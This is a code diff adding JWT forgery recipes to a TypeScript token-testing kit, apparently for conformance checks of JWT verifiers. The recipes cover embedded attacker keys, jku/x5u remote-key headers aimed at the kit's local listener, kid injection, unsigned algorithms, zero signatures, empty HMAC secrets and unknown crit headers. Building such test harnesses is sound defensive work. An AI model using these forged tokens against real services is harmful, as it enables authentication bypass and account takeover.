@@ -8,6 +8,7 @@
 import { z } from "zod";
 import { decodeJwt, generateKeyPair, SignJWT } from "jose";
 import type { Credentials } from "./target.ts";
+import { attackerKey, b64url, signByAttacker, signHmac, signRaw, unsigned } from "./_jwt_attacks.ts";
 
 /** A forgery recipe (closed union on `kind`). */
 export const RecipeSchema = z.discriminatedUnion("kind", [
@@ -22,6 +23,25 @@ export const RecipeSchema = z.discriminatedUnion("kind", [
   z.object({ kind: z.literal("literal"), value: z.string().min(1) }),
   z.object({ kind: z.literal("random"), bytes: z.number().int().min(1).max(512) }),
   z.object({ kind: z.literal("tamper_payload") }),
+  z.object({ kind: z.literal("embedded_jwk") }),
+  z.object({ kind: z.literal("remote_key"), header: z.enum(["jku", "x5u"]) }),
+  z.object({
+    kind: z.literal("kid_injection"),
+    kid: z.string().min(1),
+    /** the kid is `kid` repeated this many times */
+    repeat: z.number().int().min(1).max(65536).optional(),
+    /** the HMAC key the attack expects the server to look up ("" for /dev/null) */
+    hmac_key: z.string(),
+  }).strict(),
+  z.object({ kind: z.literal("unsigned_alg"), alg: z.string().min(1) }),
+  z.object({ kind: z.literal("zero_signature") }),
+  z.object({ kind: z.literal("hs_empty_secret") }),
+  z.object({
+    kind: z.literal("not_yet_valid"),
+    claim: z.enum(["nbf", "iat"]),
+    seconds_ahead: z.number().int(),
+  }),
+  z.object({ kind: z.literal("crit_unknown"), name: z.string().min(1) }),
 ]);
 /** A forgery recipe. */
 export type Recipe = z.infer<typeof RecipeSchema>;
@@ -64,12 +84,12 @@ export type Forged = { ok: true; token: string } | { ok: false; reason: string }
 
 const enc = new TextEncoder();
 
-/** base64url of bytes or a string. */
-export function b64url(data: Uint8Array | string): string {
-  const bytes = typeof data === "string" ? enc.encode(data) : data;
-  let s = "";
-  for (const b of bytes) s += String.fromCharCode(b);
-  return btoa(s).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
+export { b64url };
+
+/** Where a forgery points its remote-key header (`jku`/`x5u`). */
+export interface ForgeOptions {
+  /** the kit listener's base URL, e.g. "http://127.0.0.2:41234" */
+  remoteKeyBase?: string;
 }
 
 let otherKey: Promise<CryptoKey> | undefined;
@@ -133,9 +153,10 @@ export class JwtKit {
    * Build the token a recipe describes.
    *
    * @param r the recipe
+   * @param opts where remote-key headers point
    * @returns the token, or why it cannot be built for this target
    */
-  async forge(r: Recipe): Promise<Forged> {
+  async forge(r: Recipe, opts: ForgeOptions = {}): Promise<Forged> {
     const claims = this.#claims();
     const needClaims: Forged = {
       ok: false,
@@ -207,6 +228,48 @@ export class JwtKit {
           secret,
         );
         return { ok: true, token };
+      }
+      case "embedded_jwk": {
+        if (claims === undefined) return needClaims;
+        const { jwk } = await attackerKey();
+        return { ok: true, token: await signByAttacker(claims, { jwk }) };
+      }
+      case "remote_key": {
+        if (claims === undefined) return needClaims;
+        if (opts.remoteKeyBase === undefined) return { ok: false, reason: "no kit listener for the key URL" };
+        const url = `${opts.remoteKeyBase}/${r.header}/${r.header === "jku" ? "jwks.json" : "cert.pem"}`;
+        return {
+          ok: true,
+          token: await signByAttacker(claims, { [r.header]: url, kid: "conformance-kit-attacker" }),
+        };
+      }
+      case "kid_injection": {
+        if (claims === undefined) return needClaims;
+        return { ok: true, token: await signHmac(claims, { kid: r.kid.repeat(r.repeat ?? 1) }, r.hmac_key) };
+      }
+      case "unsigned_alg":
+        if (claims === undefined) return needClaims;
+        return { ok: true, token: unsigned(r.alg, claims) };
+      case "zero_signature": {
+        const parts = (await this.valid()).split(".");
+        if (parts.length !== 3 || parts[2] === undefined) return needClaims;
+        const len = Math.floor((parts[2].length * 3) / 4);
+        return { ok: true, token: `${parts[0]}.${parts[1]}.${b64url(new Uint8Array(len))}` };
+      }
+      case "hs_empty_secret":
+        if (claims === undefined) return needClaims;
+        return { ok: true, token: await signHmac(claims, kid, "") };
+      case "not_yet_valid": {
+        if (!this.canMint || claims === undefined) return needKey;
+        const at = Math.floor(Date.now() / 1000) + r.seconds_ahead;
+        const changed = r.claim === "nbf" ? { ...claims, nbf: at } : { ...claims, iat: at, exp: at + 300 };
+        return { ok: true, token: await this.#sign(changed) };
+      }
+      case "crit_unknown": {
+        const key = this.#c.issuerKey;
+        if (key === undefined || claims === undefined) return needKey;
+        const header = { alg: this.#c.alg, typ: "JWT", ...kid, crit: [r.name], [r.name]: true };
+        return { ok: true, token: await signRaw(header, claims, key) };
       }
       case "literal":
         return { ok: true, token: r.value };
